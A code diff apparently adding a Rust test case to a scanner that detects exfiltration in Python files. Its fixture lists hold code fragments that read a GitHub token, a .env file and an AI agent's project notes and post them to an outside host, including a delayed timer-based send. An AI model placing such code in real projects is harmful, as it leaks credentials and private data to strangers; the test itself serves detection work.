@@ -398,3 +398,32 @@ fn what_was_fetched_or_hidden_is_run() {
         ],
     });
 }
+
+/// One key, what is a project's or an agent's own: a finding by whom it goes to.
+const OWN: &[&str] = &[
+    "os.environ['GITHUB_TOKEN']",
+    "open('.env').read()",
+    "open(os.path.expanduser('~/.claude/projects/notes/1.jsonl')).read()",
+];
+
+const SENDS_TO_STRANGERS: &[&str] = &[
+    "requests.post('https://drop.kestrelmetrics.io/i', data=DATA)",
+    "urllib.request.urlopen('https://drop.kestrelmetrics.io/i', data=DATA)",
+];
+
+#[test]
+fn what_is_somebodys_own_reaches_a_stranger() {
+    crate::matrix::check(&Matrix {
+        file: "notes.py",
+        header: HEADER,
+        sources: OWN,
+        sinks: SENDS_TO_STRANGERS,
+        shapes: SHAPES,
+        around: AROUND,
+        harmless: HARMLESS,
+        gaps: &[
+            "urllib.request.build_opener().open('https://drop.kestrelmetrics.io/i', DATA)",
+            "import threading\n\ndef ship(data):\n    SEND data\n\nthreading.Timer(5, ship, [SOURCE]).start()",
+        ],
+    });
+}
